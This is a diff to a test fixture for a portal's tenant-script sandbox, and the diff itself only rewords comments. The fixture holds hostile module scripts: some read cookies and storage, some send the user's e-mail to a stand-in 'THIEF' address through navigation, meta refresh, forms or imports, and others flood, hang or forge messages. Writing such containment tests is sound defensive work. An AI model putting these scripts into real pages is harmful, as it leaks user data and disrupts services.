@@ -1,9 +1,9 @@
-// Scripts of a tenant that mean harm, or were written badly. Each is a module script, published like any other. `THIEF` is an
-// address that listens: a script that reaches it has carried something away.
+// Hostile and faulty scripts of a tenant, published like any other module script. `THIEF` is the address of a listening server: a
+// request that reaches it is a leak.
 
-import { closedWays, harmlessMistakes, leakyScripts, leavingScripts } from './leaky-scripts.ts';
+import { closedApis, harmlessMistakes, leakyScripts, leavingScripts } from './leaky-scripts.ts';
 
-/** Tries one thing and writes down what came of it. */
+/** Tries one thing and records the result. */
 const attempts = `
   const found = [];
   const attempt = async (name, work) => {
@@ -22,9 +22,9 @@ const asModule = (body: string): string => `export default async function start(
 export const hostileScripts: Readonly<Record<string, string>> = {
   ...leakyScripts,
   ...leavingScripts,
-  ...closedWays,
+  ...closedApis,
   ...harmlessMistakes,
-  /** Looks for the session, the portal's page, its storage and what the runtime left lying about. */
+  /** Looks for the session, the page of the portal, its storage and leftovers of the runtime. */
   leitor: asModule(`${attempts}
     await attempt('cookie', () => document.cookie);
     await attempt('localStorage', () => localStorage.length);
@@ -47,7 +47,7 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     tell();
   `),
 
-  /** Carries something away by every door a page has. */
+  /** Sends data by every API of a page. */
   ladrao: asModule(`${attempts}
     const secret = '?segredo=' + encodeURIComponent(portal.context.user.email);
     const element = (tag, properties) => new Promise((resolve, reject) => {
@@ -76,7 +76,7 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     tell();
   `),
 
-  /** Never comes back from its first line. */
+  /** Never finishes its first line. */
   'trava-ao-abrir': 'for (;;) { Math.random(); }',
 
   /** Works until a button is pressed. */
@@ -84,7 +84,7 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     portal.kit.page({ title: 'Módulo' }, portal.kit.button('Travar', () => { portal.ui.title('Travado'); for (;;) Math.random(); }));
   `),
 
-  /** Takes 200 MB when a button is pressed, uses every page of them and keeps them. */
+  /** Allocates 200 MB when a button is pressed, uses every page of them and keeps them. */
   glutao: asModule(`
     const taken = [];
     portal.kit.page({ title: 'Módulo' }, portal.kit.button('Ocupar', () => {
@@ -93,7 +93,7 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     }));
   `),
 
-  /** Has the portal take 50 MB: says them as one message. */
+  /** Sends the portal 50 MB in one message. */
   'glutao-na-janela': asModule(`
     portal.kit.page({ title: 'Módulo' }, portal.kit.button('Dizer', () => {
       parent.postMessage({ kind: 'log', level: 'info', text: 'x'.repeat(50 * 2 ** 20) }, '*');
@@ -101,30 +101,30 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     }));
   `),
 
-  /** Calls the portal as fast as it can, over its port. */
+  /** Calls the portal as fast as possible over its port. */
   enxurrada: asModule(`
     portal.kit.page({ title: 'Módulo' });
     const call = () => { for (let i = 0; i < 500; i += 1) portal.ui.title('x' + i).catch(() => undefined); setTimeout(call); };
     call();
   `),
 
-  /** The same over the window, where the portal expects no message. */
+  /** The same over the window, on which the portal expects no message. */
   'enxurrada-na-janela': asModule(`
     portal.kit.page({ title: 'Módulo' });
     const shout = () => { for (let i = 0; i < 500; i += 1) parent.postMessage({ kind: 'log', level: 'info', text: 'x' }, '*'); setTimeout(shout); };
     shout();
   `),
 
-  /** Leaves for another site, and takes the address of the person along. */
+  /** Navigates to another site, with the e-mail of the person in the address. */
   fujao: asModule(`location.href = 'THIEF/away?segredo=' + encodeURIComponent(portal.context.user.email);`),
 
-  /** The same by a word in its own head. */
+  /** The same by a `meta` refresh. */
   'fujao-pela-cabeca': asModule(`
     portal.kit.page({ title: 'Módulo' });
     document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=THIEF/meta?segredo=1' }));
   `),
 
-  /** Sends a form, to here and to there. */
+  /** Submits a form to another site. */
   'fujao-por-formulario': asModule(`
     portal.kit.page({ title: 'Módulo' });
     const form = Object.assign(document.createElement('form'), { action: 'THIEF/form', method: 'post' });
@@ -133,13 +133,13 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     form.submit();
   `),
 
-  /** Loads itself again, to begin with a clean slate. */
+  /** Reloads itself to start again. */
   'recarrega-se': asModule(`location.reload();`),
 
-  /** Says it is a new frame, for a second port. */
+  /** Announces itself as a new frame, to get a second port. */
   impostor: asModule(`parent.postMessage({ kind: 'ready', version: 1 }, '*');`),
 
-  /** Forges what only the port may carry. */
+  /** Forges messages that are allowed on the port alone. */
   falsario: asModule(`
     for (const message of [{ kind: 'call', id: 1, method: 'ui.close', request: {} }, { kind: 'started' }, null, 7, 'ready', { kind: 'ready', version: 'x' }, { kind: { toString: 1 } }])
       parent.postMessage(message, '*');
@@ -155,12 +155,12 @@ export const hostileScripts: Readonly<Record<string, string>> = {
   'sem-start': 'export const nada = 1;',
   'importa-de-fora': `import 'THIEF/pacote.js'; export default function start() {}`,
 
-  /** Asks again and again for what is not its own. */
+  /** Requests undeclared queries repeatedly. */
   bisbilhoteiro: asModule(`
     portal.kit.page({ title: 'Módulo' });
     for (const id of ['folha-de-pagamento', 'usuarios', 'senhas']) await portal.sql.run(id).catch(() => undefined);
   `),
 
-  /** A script that works, in the same tenant: the portal must still open it after any of the others. */
+  /** A working script of the same tenant: the portal must still open it after any of the others. */
   honesto: asModule(`portal.kit.page({ title: 'Tudo certo', subtitle: portal.context.user.email });`),
 };
